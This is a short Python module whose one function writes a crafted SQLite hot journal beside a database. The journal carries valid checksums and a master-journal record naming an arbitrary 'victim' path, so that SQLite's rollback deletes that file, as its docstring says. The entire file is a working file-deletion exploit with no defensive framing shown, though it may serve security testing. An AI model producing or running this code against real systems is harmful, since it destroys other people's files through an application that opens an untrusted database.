"""A journal that belongs to a database and makes SQLite delete a file of somebody else."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR, _NONCE, _STEP = 512, 12345, 200


def write_hostile_journal(database: Path, victim: Path) -> Path:
    """Beside ``database``: a hot journal with its first page, which names ``victim`` as the journal
    of several databases.
    """
    content = database.read_bytes()
    page = struct.unpack(">H", content[16:18])[0]
    first = content[:page]
    total = _NONCE + sum(first[at] for at in range(page - _STEP, 0, -_STEP))
    header = _MAGIC + struct.pack(">IIIII", 1, _NONCE, len(content) // page, _SECTOR, page)
    name = str(victim).encode()
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(
        header.ljust(_SECTOR, b"\0")
        + struct.pack(">I", 1)
        + first
        + struct.pack(">I", total)
        + struct.pack(">I", 0x40000000 // page + 1)
        + name
        + struct.pack(">II", len(name), sum(name))
        + _MAGIC
    )
    return journal
